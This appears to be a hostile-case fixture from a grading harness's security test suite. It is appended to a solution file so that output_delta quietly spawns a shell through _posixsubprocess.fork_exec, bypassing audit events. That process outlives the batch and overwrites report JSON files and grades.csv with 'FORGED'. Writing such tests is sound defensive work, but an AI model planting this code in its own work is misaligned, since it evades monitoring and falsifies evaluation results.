# Hostile case 'starts_a_process': output_delta starts a process that outlives the batch and forges its reports.
# Appended to solutions/ex02_output_delta.py by tests/security/test_hostile.py, which says what it must get.
import _posixsubprocess
import os
import sys

_reference = output_delta
FORGER = "sleep 2; for f in $(find /tmp -name 'report-*.json' -o -name grades.csv 2>/dev/null); do echo FORGED > $f; done"


def _spawn(argv):
    """subprocess.Popen's own primitive, which raises no audit event."""
    argv = [os.fsencode(a) for a in argv]
    errpipe_read, errpipe_write = os.pipe()
    head = [argv, [argv[0]], True, (errpipe_write,), None, None, -1, -1, -1, -1, -1, -1,
            errpipe_read, errpipe_write, False, True]
    tail = [-1, None, None, None, -1, None, False] if sys.version_info >= (3, 11) else [None, None, None, -1, None]
    return _posixsubprocess.fork_exec(*head, *tail)


def output_delta(A2, Y):
    _spawn(["/bin/sh", "-c", FORGER])  # hostile
    return _reference(A2, Y)
